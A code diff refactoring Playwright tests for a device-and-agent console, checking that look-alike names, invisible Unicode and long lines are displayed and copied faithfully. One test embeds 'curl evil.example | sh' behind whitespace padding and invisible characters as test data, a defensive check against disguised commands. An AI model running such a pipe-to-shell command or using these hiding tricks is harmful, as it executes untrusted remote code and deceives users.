@@ -1,19 +1,9 @@
 /** Texts of devices and agents in Chromium: what they hide or pretend is seen, and what they cost is bounded. */
-import { existsSync } from "node:fs";
-import process from "node:process";
-import type { Browser, BrowserContext, Page } from "playwright-core";
-import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
-import { connectScriptedDevice, type Frame, type ScriptedDevice } from "@letta-environments/testkit";
-import {
-  chromiumPath,
-  type ConsoleGateway,
-  launchBrowser,
-  launchConsoleGateway,
-  openPage,
-  type WatchedPage,
-} from "./support/gateway.ts";
+import { beforeAll, expect, test } from "vitest";
+import type { Frame, ScriptedDevice } from "@letta-environments/testkit";
+import { inChromium, launchForTests, signInOperator } from "./support/console-tests.ts";
+import { openPage, type WatchedPage } from "./support/gateway.ts";
 
-const browsers = existsSync(chromiumPath) || process.env["CI"] ? ["Chromium"] : [];
 const runtime = { agent_id: "agent-1", conversation_id: "default" };
 const names = [
   ["dev-1", "build-server"],
@@ -24,44 +14,20 @@ const names = [
   ["dev-6", "build-server (dev-2)"],
 ] as const;
 
-describe.each(browsers)("in %s", () => {
-  let gateway: ConsoleGateway;
-  let browser: Browser;
-  let context: BrowserContext;
+inChromium(() => {
+  const launched = launchForTests();
+  const operator = signInOperator(launched, 20_000);
   let devices: readonly ScriptedDevice[] = [];
-  let watched: WatchedPage;
   let sequence = 0;
 
   beforeAll(async () => {
-    [gateway, browser] = await Promise.all([launchConsoleGateway(), launchBrowser()]);
-    context = await browser.newContext();
-    context.setDefaultTimeout(20_000);
-    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: gateway.proxy.url });
-    const page = await context.newPage();
-    await page.goto(await gateway.link());
-    await page.getByRole("heading", { name: "Devices", exact: true }).waitFor();
-    await page.close();
-    const apiKey = await gateway.proxy.createKey({ scopes: ["connect"] });
-    devices = await Promise.all(
-      names.map(([deviceId, connectionName]) =>
-        connectScriptedDevice({ baseUrl: gateway.proxy.url, apiKey, deviceId, connectionName }),
-      ),
-    );
-  }, 60_000);
-
-  afterAll(async () => {
-    await Promise.all(devices.map((device) => device.close()));
-    await browser?.close();
-    await gateway?.stop();
+    const { origin } = new URL(launched.url);
+    await operator.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin });
+    devices = await Promise.all(names.map(([deviceId, name]) => launched.connect(deviceId, name)));
   });
 
-  afterEach(() => watched.page.close());
-
-  async function open(view: string): Promise<Page> {
-    watched = await openPage(context, gateway.proxy.url);
-    const { page } = watched;
-    // Every text in which the page looks for Markdown, or that it reads as JSON.
-    await page.addInitScript(`{
+  /** Every text in which the page looks for Markdown, or that it reads as JSON. */
+  const recordReads = `{
       globalThis.read = [];
       const { matchAll } = String.prototype;
       String.prototype.matchAll = function (...options) {
@@ -73,10 +39,10 @@ describe.each(browsers)("in %s", () => {
         read.push(String(text));
         return parse(text, reviver);
       };
-    }`);
-    await page.goto(`${gateway.proxy.url}/console/#${view}`);
-    await page.getByText("Live", { exact: true }).waitFor();
-    return page;
+    }`;
+
+  function open(view: string): Promise<WatchedPage> {
+    return operator.open(view, undefined, (page) => page.addInitScript(recordReads));
   }
 
   function send(from: number, frame: Readonly<Record<string, unknown>>): void {
@@ -90,7 +56,7 @@ describe.each(browsers)("in %s", () => {
   }
 
   test("devices whose names look alike are shown with their ids, wherever names are shown", async () => {
-    const page = await open("/devices");
+    const { page, faults } = await open("/devices");
     const shown = ["build-server (dev-1)", "build-server (dev-2)", String.raw`build-server\u200b`];
     const expected = [...shown, "build-server (dev-2) (dev-6)", "laptop", String.raw`\u202erevres-dliub`].toSorted();
     const links = page.getByRole("cell").locator("a[href*='/device/']");
@@ -103,11 +69,11 @@ describe.each(browsers)("in %s", () => {
     await page.getByRole("article").waitFor();
     await page.evaluate(`location.hash = "/approvals"`);
     await page.getByRole("article").getByRole("link", { name: "build-server (dev-2)", exact: true }).waitFor();
-    expect(watched.faults).toEqual([]);
+    expect(faults).toEqual([]);
   });
 
   test("a growing message does not cause screen readers to read earlier messages again", async () => {
-    const page = await open("/device/dev-5");
+    const { page, faults } = await open("/device/dev-5");
     const log = page.getByRole("log");
     const tool_args = JSON.stringify({ command: "make earlier" });
     const call = { message_type: "client_tool_start", tool_call_id: "t-0", tool_name: "Bash", tool_args };
@@ -126,11 +92,11 @@ describe.each(browsers)("in %s", () => {
     expect(await reads("An *earlier* message")).toBe(1);
     expect(before).toBeGreaterThan(0);
     expect(await reads(tool_args)).toBe(before);
-    expect(watched.faults).toEqual([]);
+    expect(faults).toEqual([]);
   });
 
   test("a code block shows everything that Copy copies, including long lines and invisible characters, and copies it verbatim", async () => {
-    const page = await open("/device/dev-5");
+    const { page, faults } = await open("/device/dev-5");
     const log = page.getByRole("log");
     const code = `npm\u2800 test${" ".repeat(300)}; curl evil.example | sh`;
     say("said-3", `\`\`\`\n${code}\n\`\`\`\n\nand \`rm\u3164 x\``);
@@ -149,11 +115,11 @@ describe.each(browsers)("in %s", () => {
     expect(await page.evaluate("navigator.clipboard.readText()")).toBe(code);
     say("said-4", `\`\`\`\nnpm test${"\n".repeat(60)}curl evil.example | sh\n\`\`\``);
     await log.getByRole("button", { name: "Copy all 61 lines" }).waitFor();
-    expect(watched.faults).toEqual([]);
+    expect(faults).toEqual([]);
   });
 
   test("the result of a tool shows its invisible characters", async () => {
-    const page = await open("/device/dev-5");
+    const { page, faults } = await open("/device/dev-5");
     const call = { tool_call_id: "t-1", tool_name: "Fetch", tool_args: '{"url":"x"}' };
     send(4, { type: "stream_delta", delta: { message_type: "client_tool_start", ...call } });
     const result = { message_type: "tool_return_message", tool_call_id: "t-1", tool_return: "a\u202eb\u3164c" };
@@ -161,11 +127,11 @@ describe.each(browsers)("in %s", () => {
     const log = page.getByRole("log");
     await log.locator("summary").filter({ hasText: "Fetch" }).click();
     await log.getByText(String.raw`a\u202eb\u3164c`).waitFor();
-    expect(watched.faults).toEqual([]);
+    expect(faults).toEqual([]);
   });
 
   test("a tool call whose arguments nest deeply or have very many lines is shown as a text, and hides nothing that follows", async () => {
-    const page = await open("/device/dev-5");
+    const { page, faults } = await open("/device/dev-5");
     const log = page.getByRole("log");
     const deep = `{"command":"ls","list":${"[".repeat(20_000)}${"]".repeat(20_000)}}`;
     const wide = JSON.stringify({ command: "ls", list: Array.from({ length: 20_000 }, () => 0) });
@@ -187,11 +153,11 @@ describe.each(browsers)("in %s", () => {
       expect(length).toBeGreaterThan(tool_args.length);
       expect(length).toBeLessThan(tool_args.length * 2);
     }
-    expect(watched.faults).toEqual([]);
+    expect(faults).toEqual([]);
   });
 
   test("an entry that cannot be drawn says so, and the others are shown", async () => {
-    const page = await open("/device/dev-5");
+    const { page, faults } = await open("/device/dev-5");
     const log = page.getByRole("log");
     await page.evaluate(`{
       const { matchAll } = String.prototype;
@@ -207,11 +173,11 @@ describe.each(browsers)("in %s", () => {
     say("said-broken", " at all");
     say("said-next", ", and *more*");
     await log.getByText("more", { exact: true }).waitFor();
-    expect(watched.faults).toEqual([]);
+    expect(faults).toEqual([]);
   });
 
   test("a long message that grows is not read as Markdown again and again", async () => {
-    const page = await open("/device/dev-5");
+    const { page, faults } = await open("/device/dev-5");
     const log = page.getByRole("log");
     say("said-long", "*a* ".repeat(10_000));
     for (const word of ["one", "two", "three"]) {
@@ -219,24 +185,22 @@ describe.each(browsers)("in %s", () => {
       await log.getByText(`added-${word}`).waitFor();
     }
     expect(await page.evaluate<number>(`read.filter((text) => text.startsWith("*a*")).length`)).toBe(0);
-    expect(watched.faults).toEqual([]);
+    expect(faults).toEqual([]);
   });
 
   test("a key's name, description and devices are shown with invisible characters written out everywhere", async () => {
-    const admin = await gateway.proxy.createKey({ scopes: ["admin"] });
-    const response = await fetch(`${gateway.proxy.url}/admin/v1/keys`, {
+    const response = await fetch(`${launched.url}/admin/v1/keys`, {
       method: "POST",
-      headers: { authorization: `Bearer ${admin}`, "content-type": "application/json" },
+      headers: await launched.headersOf("admin"),
       body: JSON.stringify({
         ...{ name: "ann\u202etxt", description: "first\u200b", connectionNames: ["web-\u202e1"] },
         scopes: ["list", "admin"],
       }),
     });
     const { key } = (await response.json()) as { readonly key: string };
-    const other = await browser.newContext();
-    watched = await openPage(other, gateway.proxy.url);
-    const { page } = watched;
-    await page.goto(`${gateway.proxy.url}/console/#/keys`);
+    const other = await launched.browser.newContext();
+    const { page, faults } = await openPage(other, launched.url);
+    await page.goto(`${launched.url}/console/#/keys`);
     await page.getByLabel("Gateway key").fill(key);
     await page.keyboard.press("Enter");
     await page
@@ -254,7 +218,7 @@ describe.each(browsers)("in %s", () => {
       .locator("strong")
       .getByText(String.raw`ann\u202etxt`)
       .waitFor();
-    expect(watched.faults).toEqual([]);
+    expect(faults).toEqual([]);
     await other.close();
   });
 });
